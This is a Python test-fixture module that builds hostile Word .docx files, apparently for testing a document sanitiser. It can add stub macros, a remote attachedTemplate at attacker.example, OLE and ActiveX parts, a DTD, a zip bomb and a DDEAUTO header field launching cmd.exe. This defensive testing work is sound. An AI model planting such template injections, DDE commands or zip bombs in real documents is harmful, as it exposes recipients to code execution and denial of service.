"""House .docx files made hostile, for the tests: built from python-docx's own template.

``house_docx(path, **changes)`` writes a real .docx whose styles carry a marker style
("House Marker"), then adds what is asked: a VBA project, a remote attachedTemplate,
an embedded OLE object, an ActiveX control, a DTD in a part, a zip bomb, many members,
or a DDE field in a header.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MARKER_STYLE = "House Marker"


def _base() -> dict[str, bytes]:
    word = docx.Document()
    word.styles.add_style(MARKER_STYLE, 1)  # WD_STYLE_TYPE.PARAGRAPH
    word.add_paragraph("Body text of the template, never part of a brief.")
    out = io.BytesIO()
    word.save(out)
    with zipfile.ZipFile(out) as z:
        return {name: z.read(name) for name in z.namelist()}


def _add_rel(parts: dict[str, bytes], rels: str, rid: str, rel_type: str, target: str,
             external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="{rid}" Type="{rel_type}" Target="{target}"{mode}/>'
    if rels in parts:
        parts[rels] = parts[rels].replace(b"</Relationships>", row.encode() + b"</Relationships>")
    else:
        parts[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                       b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       b'relationships">' + row.encode() + b"</Relationships>")


def _override(parts: dict[str, bytes], name: str, content_type: str) -> None:
    row = f'<Override PartName="/{name}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", row + b"</Types>")


def house_docx(path: Path, *, macros: bool = False, remote_template: bool = False,
               embedding: bool = False, activex: bool = False, dtd: bool = False,
               bomb_mb: int = 0, members: int = 0, dde_header: bool = False,
               macro_enabled_type: bool = False) -> Path:
    parts = _base()
    doc_rels = "word/_rels/document.xml.rels"
    if macros:
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 pretend VBA project"
        _add_rel(parts, doc_rels, "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                 "vbaProject.bin")
        _override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    if macro_enabled_type:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml")
    if remote_template:
        _add_rel(parts, "word/_rels/settings.xml.rels", "rIdTpl", f"{R}/attachedTemplate",
                 "https://attacker.example/template.dotm", external=True)
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rIdTpl"/><w:defaultTabStop', 1)
        if b"xmlns:r=" not in parts["word/settings.xml"].split(b">", 2)[1]:
            parts["word/settings.xml"] = parts["word/settings.xml"].replace(
                b"<w:settings ", f'<w:settings xmlns:r="{R}" '.encode(), 1)
    if embedding:
        parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 pretend OLE object"
        _add_rel(parts, doc_rels, "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
    if activex:
        parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>'
        _add_rel(parts, doc_rels, "rIdAx", f"{R}/control", "activeX/activeX1.xml")
    if dtd:
        theme = parts["word/theme/theme1.xml"]
        head, rest = theme.split(b"?>", 1)
        parts["word/theme/theme1.xml"] = head + b'?><!DOCTYPE a:theme [<!ENTITY x "y">]>' + rest
    if dde_header:
        parts["word/header9.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
            b"</w:r></w:p></w:hdr>")
        _add_rel(parts, doc_rels, "rIdHdr9", f"{R}/header", "header9.xml")
        _override(parts, "word/header9.xml",
                  "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        for i in range(members):
            z.writestr(f"customXml/extra{i}.xml", b"<a/>")
        if bomb_mb:
            with z.open("word/media/image1.png", "w", force_zip64=True) as fh:
                chunk = b"\0" * 2**20
                for _ in range(bomb_mb):
                    fh.write(chunk)
    return path
